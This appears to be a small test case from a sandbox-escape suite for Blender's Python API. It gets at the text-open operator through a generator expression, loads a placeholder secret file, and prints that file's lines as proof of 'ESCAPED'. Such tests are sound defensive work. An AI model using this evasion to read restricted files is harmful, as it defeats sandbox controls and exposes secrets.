# attack: text.open through a generator expression; the text block is found among the keys of user_map()
# family: files
import bpy

read = next(operators for operators in [bpy.ops]).text.open
print("REACHED", read.idname())
read(filepath="$SECRET_FILE", internal=True)
for block in bpy.data.user_map():
    if hasattr(block, "lines"):
        print("ESCAPED", [line.body for line in block.lines])
